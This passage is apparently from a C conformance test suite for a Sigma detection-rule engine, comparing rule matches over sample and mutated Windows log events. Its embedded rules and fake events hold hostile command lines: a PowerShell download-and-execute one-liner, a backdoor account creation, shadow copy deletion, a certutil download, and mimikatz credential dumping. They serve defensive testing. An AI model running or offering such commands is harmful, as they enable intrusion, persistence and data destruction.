    if (fs_read_file(path, MAX_FILE, &text, &len) != 0)
        fail_msg("cannot read %s", path);
    vg_event *ev = vg_event_new(NULL);
    assert_non_null(ev);
    size_t pos = 0, rec = 0;
    while (pos < len) {
        size_t start, rlen, used;
        vg_frame_result fr =
                vg_frame_next(fmt, text + pos, len - pos, true, MAX_FILE, &start, &rlen, &used);
        if (fr == VG_FRAME_NEED || used == 0)
            break;
        if (fr == VG_FRAME_RECORD) {
            vg_event_reset(ev);
            vg_perr perr = {0, NULL};
            rec++;
            if (vg_parse(fmt, ev, text + pos + start, rlen, NULL, &perr) == VG_OK) {
                char label[1300];
                snprintf(label, sizeof(label), "%s record %zu", path, rec);
                add_event(r, ev, label);
            } else {
                print_message("%s record %zu: parse error at %zu: %s\n", path, rec, perr.offset,
                              perr.msg ? perr.msg : "?");
            }
        }
        pos += used;
    }
    vg_event_free(ev);
    vg_free(text);
}

/* K variants of every event, compared. */
static void run_variants(rset *r, size_t k, uint64_t salt)
{
    vg_buf out;
    vg_buf_init(&out, 0);
    char label[96];
    for (size_t e = 0; e < r->events.n; e++) {
        prng g = {SEED ^ salt ^ (0xd1b54a32d192ed03ull * (e + 1))};
        for (size_t v = 0; v < k; v++) {
            vg_buf_clear(&out);
            if (!mutate(r, &g, r->events.v[e], r->events.len[e], &out))
                continue;
            vg_event_reset(r->ev);
            if (vg_parse_json(r->ev, out.p, out.len, NULL) != VG_OK ||
                vg_event_index(r->ev) != VG_OK) {
                r->st.unparsable++;
                continue;
            }
            r->st.variants++;
            snprintf(label, sizeof(label), "event %zu variant %zu", e, v);
            compare_all(r, r->ev, v % DECL_EVERY == 0, label);
        }
    }
    vg_buf_fini(&out);
}

static void report(const char *name, const rset *r)
{
    print_message("%s: %zu rules, %zu events, %zu variants (%zu unparsable skipped), %zu "
                  "comparisons, %zu hits, %zu mismatches\n",
                  name, vg_ruleset_count(r->rs), r->st.events, r->st.variants, r->st.unparsable,
                  r->st.comparisons, r->st.hits, r->st.mismatches);
}

static const char *src_dir(void)
{
    const char *s = getenv("VIGIL_SRC");
    return s && *s ? s : ".";
}

static int cmp_str(const void *a, const void *b)
{
    return strcmp(*(const char *const *)a, *(const char *const *)b);
}

/* Every regular file of dir (ending in suffix, recursively when deep), sorted. */
static void list_files(const char *dir, const char *suffix, bool deep, fs_list *out, int depth)
{
    DIR *d = opendir(dir);
    if (!d || depth > 16) {
        if (d)
            closedir(d);
        return;
    }
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char p[2048];
        snprintf(p, sizeof(p), "%s/%s", dir, e->d_name);
        struct stat st;
        if (stat(p, &st) != 0)
            continue;
        size_t nl = strlen(e->d_name), sl = strlen(suffix);
        if (S_ISDIR(st.st_mode)) {
            if (deep)
                list_files(p, suffix, deep, out, depth + 1);
        } else if (S_ISREG(st.st_mode) && nl >= sl && strcmp(e->d_name + nl - sl, suffix) == 0) {
            if (out->n == out->cap) {
                out->cap = out->cap ? out->cap * 2 : 64;
                out->v = realloc(out->v, out->cap * sizeof(char *));
                assert_non_null(out->v);
            }
            out->v[out->n] = vg_strndup(p, strlen(p));
            assert_non_null(out->v[out->n++]);
        }
    }
    closedir(d);
    if (depth == 0 && out->n)
        qsort(out->v, out->n, sizeof(char *), cmp_str);
}

static void free_list(fs_list *l)
{
    for (size_t i = 0; i < l->n; i++)
        vg_free(l->v[i]);
    free(l->v);
}

/* ---- a: bundled rules over the bundled samples ---- */

static void test_bundled_rules_samples(void **state)
{
    (void)state;
    char path[1100];
    rsrc_opts o;
    memset(&o, 0, sizeof(o));
    snprintf(path, sizeof(path), "%s/rules/sigma", src_dir());
    o.paths[o.n_paths++] = path;
    vg_diags *d = vg_diags_new();
    size_t n_files = 0;
    vg_ruleset *rs = rsrc_load(&o, d, &n_files);
    assert_non_null(rs);
    assert_true(vg_ruleset_count(rs) > 0);
    rset r;
    rset_init(&r, rs, d);

    char dir[1100];
    snprintf(dir, sizeof(dir), "%s/rules/samples", src_dir());
    fs_list files = {0};
    list_files(dir, "", false, &files, 0);
    for (size_t i = 0; i < files.n; i++) {
        const char *base = strrchr(files.v[i], '/') + 1;
        add_file(&r, files.v[i], strcmp(base, "windows.json") == 0 ? VG_FMT_JSON : VG_FMT_AUTO);
    }
    free_list(&files);
    assert_true(r.st.events >= 100);
    run_variants(&r, K_SAMPLES, 0x1111);
    report("bundled rules x samples", &r);
    size_t bad = r.st.mismatches;
    rset_fini(&r);
    assert_int_equal(bad, 0);
}

/* ---- b: SigmaHQ corpus over its regression events ---- */

static void test_corpus_regression(void **state)
{
    (void)state;
    char root[1100];
    snprintf(root, sizeof(root), "%s/../shared/sigma", src_dir());
    struct stat st;
    if (stat(root, &st) != 0 || !S_ISDIR(st.st_mode)) {
        print_message("skipped: ../shared/sigma is not present beside the source tree\n");
        skip();
    }
    static const char *const dirs[] = {"rules", "rules-emerging-threats", "rules-threat-hunting",
                                       "rules-compliance", "rules-placeholder"};
    char paths[5][1200], ph[1100];
    rsrc_opts o;
    memset(&o, 0, sizeof(o));
    for (size_t i = 0; i < 5; i++) {
        snprintf(paths[i], sizeof(paths[i]), "%s/%s", root, dirs[i]);
        if (stat(paths[i], &st) == 0)
            o.paths[o.n_paths++] = paths[i];
    }
    snprintf(ph, sizeof(ph), "%s/tests/data/sigma_placeholders.yml", src_dir());
    o.placeholder_files[o.n_placeholder_files++] = ph;
    vg_diags *d = vg_diags_new();
    size_t n_files = 0;
    vg_ruleset *rs = rsrc_load(&o, d, &n_files);
    assert_non_null(rs);
    assert_true(vg_ruleset_count(rs) > 1000);
    rset r;
    rset_init(&r, rs, d);

    char reg[1200];
    snprintf(reg, sizeof(reg), "%s/regression", root);
    fs_list files = {0};
    list_files(reg, ".json", true, &files, 0);
    for (size_t i = 0; i < files.n; i++)
        add_file(&r, files.v[i], VG_FMT_JSON);
    free_list(&files);
    assert_true(r.st.events >= 100);
    run_variants(&r, K_CORPUS, 0x2222);
    report("corpus rules x regression events", &r);
    size_t bad = r.st.mismatches;
    rset_fini(&r);
    assert_int_equal(bad, 0);
}

/* ---- embedded rules over hand-written events ---- */

static const char embedded_rules[] =
        "title: keywords\nid: e0000000-0000-4000-8000-000000000001\n"
        "logsource: {product: windows}\n"
        "detection:\n  keywords: ['mimikatz', 'sekurlsa::', 'Invoke-Expression']\n"
        "  condition: keywords\n"
        "---\n"
        "title: windash and endswith\nid: e0000000-0000-4000-8000-000000000002\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n"
        "  sel_img:\n    Image|endswith: ['\\cmd.exe', '\\powershell.exe', '\\cm?.exe']\n"
        "  sel_cli:\n    CommandLine|windash|contains: [' -enc ', ' /c ', ' -ep bypass']\n"
        "  condition: all of sel_*\n"
        "---\n"
        "title: all of values\nid: e0000000-0000-4000-8000-000000000003\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel:\n    CommandLine|contains|all: ['net', 'user', '/add']\n"
        "  condition: sel\n"
        "---\n"
        "title: base64offset and utf16\nid: e0000000-0000-4000-8000-000000000004\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_a:\n    CommandLine|base64offset|contains: 'IEX ('\n"
        "  sel_b:\n    CommandLine|wide|base64offset|contains: 'Invoke-'\n"
        "  sel_c:\n    ScriptBlockText|base64|contains: 'whoami'\n"
        "  condition: 1 of sel_*\n"
        "---\n"
        "title: cased, numbers, booleans\nid: e0000000-0000-4000-8000-000000000005\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_cased:\n    Image|cased|contains: 'System32'\n"
        "  sel_num:\n    EventID: [4688, 1]\n    Enabled: true\n"
        "  sel_str:\n    EventID: '4104'\n"
        "  sel_cmp:\n    Level|gte: 3\n    Task|lt: 10\n"
        "  condition: sel_cased or sel_num or (sel_str and sel_cmp)\n"
        "---\n"
        "title: regex cidr\nid: e0000000-0000-4000-8000-000000000006\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_re:\n    CommandLine|re: '(?i)whoami\\s+/all'\n"
        "  sel_net:\n    DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10']\n"
        "    DestinationPort: 445\n"
        "  condition: sel_re or sel_net\n"
        "---\n"
        "title: exists null fieldref\nid: e0000000-0000-4000-8000-000000000007\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_ex:\n    User|exists: true\n    ParentImage: null\n"
        "  sel_ref:\n    TargetUserName|fieldref: SubjectUserName\n"
        "  sel_refc:\n    CommandLine|fieldref|contains: Image\n"
        "  condition: 1 of sel_*\n"
        "---\n"
        "title: not and neq\nid: e0000000-0000-4000-8000-000000000008\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel:\n    Image|contains: 'rundll32'\n"
        "  neq:\n    Channel|neq: 'Security'\n"
        "  filter:\n    User|contains: ['SYSTEM', 'AUTHORI']\n"
        "  condition: (sel or neq) and not filter\n"
        "---\n"
        "title: spaced field and dotted paths\nid: e0000000-0000-4000-8000-000000000009\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_threat:\n    ThreatName|contains: 'Mimikatz'\n"
        "  sel_path:\n    Event.System.Channel: 'Microsoft-Windows-Sysmon/Operational'\n"
        "    Event.EventData.Image|contains: '\\Temp\\'\n"
        "  condition: sel_threat or sel_path\n"
        "---\n"
        "title: expand and general globs\nid: e0000000-0000-4000-8000-00000000000a\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  sel_exp:\n    Computer|expand: '%Workstations%'\n"
        "  sel_glob:\n    TargetFilename: 'C:\\Users\\*\\AppData\\*.ps1'\n"
        "  sel_empty:\n    Description: ''\n    OriginalFileName: 'psexec.c'\n"
        "  condition: 1 of sel_*\n"
        "---\n"
        "title: keywords all and startswith\nid: e0000000-0000-4000-8000-00000000000b\n"
        "logsource: {product: windows}\n"
        "detection:\n"
        "  kw_all:\n    '|all': ['invoke', 'bypass']\n"
        "  kw_start:\n    '|startswith': 'C:\\ProgramData\\'\n"
        "  condition: kw_all or kw_start\n"
        "---\n"
        "title: two of and anything\nid: e0000000-0000-4000-8000-00000000000c\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n"
        "  s1:\n    CommandLine|contains: 'vssadmin'\n"
        "  s2:\n    CommandLine|contains: 'delete'\n"
        "  s3:\n    CommandLine|contains: 'shadows'\n"
        "  s4:\n    ParentImage: '*'\n"
        "  condition: 2 of s* and s4\n"
        "---\n"
        "title: filtered\nid: e0000000-0000-4000-8000-00000000000d\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection:\n  sel:\n    Image|endswith: '\\certutil.exe'\n"
        "    CommandLine|contains: ['urlcache', 'verifyctl']\n  condition: sel\n"
        "---\n"
        "title: filter for the filtered rule\nid: e0000000-0000-4000-8000-00000000000e\n"
        "logsource: {product: windows, category: process_creation}\n"
        "filter:\n  rules: [e0000000-0000-4000-8000-00000000000d]\n"
        "  selection:\n    User|contains: 'adm_'\n  condition: selection\n"
        /* numbers and booleans as the only literals: they also match other spellings */
        "---\n"
        "title: event ids only\nid: e0000000-0000-4000-8000-00000000000f\n"
        "logsource: {product: windows}\n"
        "detection:\n  sel:\n    EventID: [4688, 1116, 3]\n  condition: sel\n"
        "---\n"
        "title: port only\nid: e0000000-0000-4000-8000-000000000010\n"
        "logsource: {product: windows}\n"
        "detection:\n  sel:\n    DestinationPort: 445\n  condition: sel\n"
        "---\n"
        "title: boolean only\nid: e0000000-0000-4000-8000-000000000011\n"
        "logsource: {product: windows}\n"
        "detection:\n  sel:\n    Enabled: true\n  condition: sel\n"
        "---\n"
        "title: number keyword\nid: e0000000-0000-4000-8000-000000000012\n"
        "logsource: {product: windows}\n"
        "detection:\n  keywords: [4625, '0xc000006a']\n  condition: keywords\n";

/* Hand-written events; rows of earlier findings go at the end. */
static const char *const embedded_events[] = {
        "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-"
        "Sysmon\"}},\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
        "\"Computer\":\"ws-0042.corp.local\",\"Level\":4,\"Task\":1},\"EventData\":{\"Image\":"
        "\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"CommandLine\":\"cmd.exe /c whoami /all\","
        "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\",\"User\":\"CORP\\\\alice\","
        "\"OriginalFileName\":\"Cmd.Exe\"}}}",
        "{\"Event\":{\"System\":{\"EventID\":{\"#attributes\":{\"Qualifiers\":16384},\"#text\":"
        "4688},\"Channel\":\"Security\",\"Computer\":\"dc01\"},\"EventData\":{\"NewProcessName\":"
        "\"C:\\\\Windows\\\\System32\\\\net.exe\",\"CommandLine\":\"net user backdoor P@ss /add\","
        "\"SubjectUserName\":\"alice\",\"TargetUserName\":\"alice\"}}}",
        "{\"EventID\":4104,\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"Computer\":"
        "\"ws-7\",\"Level\":5,\"Task\":2,\"ScriptBlockText\":\"d2hvYW1p; Invoke-Expression (New-"
        "Object Net.WebClient).DownloadString('http://x/a')\",\"CommandLine\":\"powershell -ep "
        "bypass -enc SQBFAFgAIAAoA\"}",
        "{\"winlog\":{\"channel\":\"Microsoft-Windows-Sysmon/Operational\",\"event_id\":3,"
        "\"computer_name\":\"ws-9\"},\"DestinationIp\":\"10.1.2.3\",\"DestinationPort\":\"445\","
        "\"Image\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\rundll32.exe\",\"User\":"
        "\"NT AUTHORITY\\\\SYSTEM\"}",
        "{\"Threat Name\":\"HackTool:Win32/Mimikatz.D\",\"EventID\":1116,\"Channel\":\"Microsoft-"
        "Windows-Windows Defender/Operational\",\"Computer\":\"ws-3\",\"Path\":\"C:\\\\ProgramData"
        "\\\\m.exe\",\"tags\":[\"sekurlsa::logonpasswords\",7,true,null]}",
        "{\"Image\":\"C:\\\\Windows\\\\System32\\\\vssadmin.exe\",\"CommandLine\":\"vssadmin.exe "
        "Delete Shadows /All /Quiet\",\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
        "\"EventID\":\"0x1250\",\"Channel\":\"Security\",\"Computer\":\"fs01\",\"Enabled\":true}",
        "{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/"
        "Operational\",\"Computer\":\"srv\"},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32"
        "\\\\certutil.exe\",\"CommandLine\":\"certutil \\u2013urlcache -f http://a/b c.exe\","
        "\"User\":\"CORP\\\\adm_backup\",\"TargetFilename\":\"C:\\\\Users\\\\x\\\\AppData\\\\"
        "Roaming\\\\a.ps1\",\"Description\":\"\"}}}",
        "{\"message\":\"Accepted password for root from 10.9.8.7 port 22 ssh2\",\"host\":"
        "\"bastion\",\"program\":\"sshd\",\"kv\":{\"user\":\"root\"},\"n\":[1,[2,[3]]],\"o\":{},"
        "\"e\":[]}",
        "{\"EventID\":4625,\"Channel\":\"Security\",\"Computer\":\"dc02\",\"LogonType\":3,"
        "\"Status\":\"0xc000006d\",\"SubStatus\":\"0xC000006A\",\"TargetUserName\":\"admin\","
        "\"IpAddress\":\"fe80::1\",\"IpPort\":\"-\",\"Enabled\":\"TRUE\"}",
};

static void test_embedded_rules(void **state)
{
    (void)state;
    vg_ruleset *rs = vg_ruleset_new();
    vg_diags *d = vg_diags_new();
    assert_true(rs && d);
    static const char *const mapping[] = {"logsources.yml", "fields.yml"};
    for (size_t i = 0; i < 2; i++) {
        char path[1100];
        snprintf(path, sizeof(path), "%s/rules/%s", src_dir(), mapping[i]);
        char *text;
        size_t len;
        if (fs_read_file(path, MAX_FILE, &text, &len) != 0)
            fail_msg("cannot read %s", path);
        vg_status rc = i == 0 ? vg_ruleset_add_logsources(rs, path, text, len, d)
                              : vg_ruleset_add_fieldmap(rs, path, text, len, d);
        assert_int_equal(rc, VG_OK);
        vg_free(text);
    }
    static const char *const ws[] = {"ws-*", "srv"};
    assert_int_equal(vg_ruleset_set_placeholder(rs, "Workstations", ws, 2), VG_OK);
    assert_int_equal(
            vg_ruleset_add_rules(rs, "embedded.yml", embedded_rules, sizeof(embedded_rules) - 1, d),
            VG_OK);
    assert_int_equal(vg_ruleset_finish(rs, d), VG_OK);
    for (size_t i = 0; i < vg_diags_count(d); i++) {
        const vg_diag *g = vg_diags_get(d, i);
        if (g->sev == VG_SEV_ERROR)
            print_message("embedded.yml:%u:%u: %s [%s]\n", g->loc.line, g->loc.col, g->msg,
                          g->reason);
    }
    assert_int_equal(vg_diags_errors(d), 0);
    rset r;
    rset_init(&r, rs, d);
    vg_event *ev = vg_event_new(NULL);
    assert_non_null(ev);
    for (size_t i = 0; i < sizeof(embedded_events) / sizeof(embedded_events[0]); i++) {
        vg_event_reset(ev);
        const char *t = embedded_events[i];
        if (vg_parse_json(ev, t, strlen(t), NULL) != VG_OK)
            fail_msg("embedded event %zu does not parse", i);
        char label[64];
        snprintf(label, sizeof(label), "embedded event %zu", i);
        add_event(&r, ev, label);
    }
    vg_event_free(ev);
    run_variants(&r, K_EMBEDDED, 0x3333);
    report("embedded rules x hand-written events", &r);
    size_t bad = r.st.mismatches;
    rset_fini(&r);
    assert_int_equal(bad, 0);
}

static int teardown(void **state)
{
    (void)state;
    print_message("total: %zu events, %zu variants (%zu unparsable skipped), %zu comparisons, "
                  "%zu hits, %zu mismatches\n",
                  g_total.events, g_total.variants, g_total.unparsable, g_total.comparisons,
                  g_total.hits, g_total.mismatches);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
            cmocka_unit_test(test_bundled_rules_samples),
            cmocka_unit_test(test_corpus_regression),
            cmocka_unit_test(test_embedded_rules),
    };
    return cmocka_run_group_tests_name("conformance/differential", tests, NULL, teardown);
}
